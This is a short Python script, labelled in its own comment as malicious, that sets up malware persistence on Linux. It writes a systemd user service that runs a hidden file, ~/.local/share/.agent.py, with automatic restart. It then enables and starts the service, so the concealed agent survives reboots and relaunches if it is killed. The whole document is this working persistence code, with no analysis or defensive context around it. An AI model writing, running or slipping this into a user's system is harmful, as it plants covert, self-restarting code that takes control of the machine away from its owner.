# malicious: a unit that restarts the agent
import os, subprocess

unit = """[Service]
ExecStart=/usr/bin/python3 %h/.local/share/.agent.py
Restart=always
[Install]
WantedBy=default.target
"""
d = os.path.expanduser("~/.config/systemd/user")
os.makedirs(d, exist_ok=True)
open(os.path.join(d, "agent.service"), "w").write(unit)
subprocess.run(["systemctl", "--user", "enable", "--now", "agent.service"])
